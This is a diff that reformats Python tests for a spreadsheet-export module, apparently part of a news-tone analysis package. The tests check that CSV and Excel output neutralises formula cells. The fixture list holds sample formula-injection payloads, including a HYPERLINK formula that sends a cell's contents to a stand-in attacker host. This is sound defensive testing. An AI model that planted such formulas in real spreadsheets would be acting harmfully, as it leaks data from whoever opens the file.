@@ -7,8 +7,7 @@ import pandas as pd
 
 from tonlage.export import csv_bytes, neutralise_formulas
 
-DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Klick")', "+1", "-cmd", "@SUM(A1:A9)",
-             "\t=1+1", "\r=1+1"]
+DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Klick")', "+1", "-cmd", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
 
 
 def test_formula_cells_get_an_apostrophe_and_the_rest_is_unchanged():
@@ -30,9 +29,13 @@ def test_non_text_cells_in_mixed_columns_are_left_alone():
 
 
 def test_string_and_categorical_columns():
-    df = pd.DataFrame({"s": pd.Series(["=1", "ok", None], dtype="string"),
-                       "c": pd.Categorical(["+x", "y", "+x"]),
-                       "d": pd.Categorical(["a", "b", "a"])})
+    df = pd.DataFrame(
+        {
+            "s": pd.Series(["=1", "ok", None], dtype="string"),
+            "c": pd.Categorical(["+x", "y", "+x"]),
+            "d": pd.Categorical(["a", "b", "a"]),
+        }
+    )
     out = neutralise_formulas(df)
     assert out["s"].tolist()[:2] == ["'=1", "ok"] and pd.isna(out["s"].iloc[2])
     assert out["c"].tolist() == ["'+x", "y", "'+x"]
@@ -50,7 +53,7 @@ def test_csv_bytes_has_a_bom_and_round_trips_umlauts():
 
 
 def test_csv_bytes_neutralises_formulas_and_writes_no_index():
-    text = csv_bytes(pd.DataFrame({"a": ["=HYPERLINK(\"x\")", "@SUM(1)"]}, index=[7, 8])).decode("utf-8-sig")
+    text = csv_bytes(pd.DataFrame({"a": ['=HYPERLINK("x")', "@SUM(1)"]}, index=[7, 8])).decode("utf-8-sig")
     lines = text.splitlines()
     assert lines[0] == "a"
     assert lines[1].startswith("\"'=HYPERLINK") and lines[2] == "'@SUM(1)"
@@ -59,12 +62,20 @@ def test_csv_bytes_neutralises_formulas_and_writes_no_index():
 def test_columns_without_any_text_are_left_alone():
     import datetime as dt
 
-    df = pd.DataFrame({"d": [dt.date(2025, 1, 1), None], "n": [None, None], "l": [[1], [2]], "e": pd.Series([], dtype=object).reindex(range(2))})
+    df = pd.DataFrame(
+        {
+            "d": [dt.date(2025, 1, 1), None],
+            "n": [None, None],
+            "l": [[1], [2]],
+            "e": pd.Series([], dtype=object).reindex(range(2)),
+        }
+    )
     out = neutralise_formulas(df)
     assert out["d"].tolist() == df["d"].tolist() and out["l"].tolist() == [[1], [2]]
 
 
 # --- Excel -----------------------------------------------------------------------------------
+
 
 def _sheet(data: bytes):
     import openpyxl
@@ -77,15 +88,14 @@ def _sheet(data: bytes):
 def test_xlsx_neutralises_formulas_and_keeps_numbers_and_umlauts():
     from tonlage.export import xlsx_bytes
 
-    df = pd.DataFrame({"Titel": ["=1+1", "Grüße aus München", DANGEROUS[0]], "Ton": [-0.42, 0.5, 1.0],
-                       "n": [3, 4, 5]})
+    df = pd.DataFrame({"Titel": ["=1+1", "Grüße aus München", DANGEROUS[0]], "Ton": [-0.42, 0.5, 1.0], "n": [3, 4, 5]})
     ws = _sheet(xlsx_bytes(df))
     rows = list(ws.iter_rows(values_only=True))
     assert rows[0] == ("Titel", "Ton", "n")
-    assert rows[1] == ("'=1+1", -0.42, 3)            # text, and the number is still a number
+    assert rows[1] == ("'=1+1", -0.42, 3)  # text, and the number is still a number
     assert rows[2][0] == "Grüße aus München" and rows[3][0] == "'" + DANGEROUS[0]
     assert isinstance(rows[1][1], float) and isinstance(rows[1][2], int)
-    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)   # no formula anywhere
+    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)  # no formula anywhere
     assert ws.freeze_panes == "A2"
 
 
@@ -103,10 +113,16 @@ def test_xlsx_makes_time_zones_naive_and_cleans_what_excel_cannot_hold():
     from tonlage.export import xlsx_bytes
 
     when = pd.Timestamp("2025-08-15 10:30", tz="Europe/Berlin")
-    df = pd.DataFrame({"date": [when, when], "mixed": [when, "x"], "text": ["a\x00b\x07c", "y" * 40_000],
-                       "terms": [["Gipfel", "Putin"], {"a": 1}]})
+    df = pd.DataFrame(
+        {
+            "date": [when, when],
+            "mixed": [when, "x"],
+            "text": ["a\x00b\x07c", "y" * 40_000],
+            "terms": [["Gipfel", "Putin"], {"a": 1}],
+        }
+    )
     rows = list(_sheet(xlsx_bytes(df)).iter_rows(values_only=True))
-    assert rows[1][0] == when.tz_localize(None).to_pydatetime()   # local time, zone dropped
+    assert rows[1][0] == when.tz_localize(None).to_pydatetime()  # local time, zone dropped
     assert rows[1][1] == when.tz_localize(None).to_pydatetime()
     assert rows[1][2] == "abc" and len(rows[2][2]) == 32_767 and rows[2][2].endswith("…")
     assert rows[1][3] == "['Gipfel', 'Putin']"
